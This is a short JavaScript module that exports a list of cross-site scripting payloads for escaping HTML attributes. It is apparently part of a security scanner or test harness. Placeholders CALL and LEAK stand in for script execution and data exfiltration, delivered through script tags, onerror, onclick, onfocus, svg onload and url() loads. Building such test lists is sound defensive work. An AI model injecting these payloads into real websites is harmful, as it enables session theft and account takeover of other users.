/** Texts that end the attribute in which they stand. */
export const attributes = [
  '"><script>CALL</script>',
  "'><script>CALL</script>",
  '"><img src=data:, onerror=CALL>',
  "'><img src=data:, onerror=CALL>",
  '><img src=data:, onerror=CALL>',
  '`><img src=data:, onerror=CALL>',
  '" onclick="CALL',
  "' onclick='CALL",
  '" autofocus onfocus="CALL" tabindex=0 x="',
  "' autofocus onfocus='CALL' tabindex=0 x='",
  ' onclick=CALL x=',
  '" style="background:url(LEAK)" x="',
  '" src="LEAK" x="',
  '&quot; onclick=&quot;CALL',
  '"/><svg/onload=CALL>',
  '\\"><svg/onload=CALL>',
];
